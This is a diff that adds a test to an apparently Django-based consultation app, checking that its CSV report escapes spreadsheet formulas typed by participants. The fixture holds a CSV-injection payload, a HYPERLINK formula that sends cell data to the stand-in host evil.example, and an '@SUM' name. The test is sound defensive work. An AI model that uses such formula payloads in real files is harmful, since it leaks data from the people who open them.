@@ -341,3 +341,17 @@ def test_the_axis_table_names_the_whole_program_once_and_every_axis():
     labels = report.Labels(INDEX)
     (_title, axis_rows) = report.tables(counts, labels)[2]
     assert axis_rows == [(labels.whole, 2), ("Transparence", 1), (labels.axis("axis-2"), 0)]
+
+
+def test_the_csv_writes_formulas_typed_by_participants_as_plain_text(client, closed):
+    ContributionFactory(
+        consultation=closed,
+        author=UserFactory(full_name="@SUM(A1:A9)"),
+        body='=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
+    )
+    content = b"".join(client.get(f"/fr/consultations/{closed.pk}/report.csv").streaming_content).decode("utf-8")
+    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"))))
+    cells = [cell for row in rows for cell in row]
+    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")' in cells
+    assert "'@SUM(A1:A9)" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
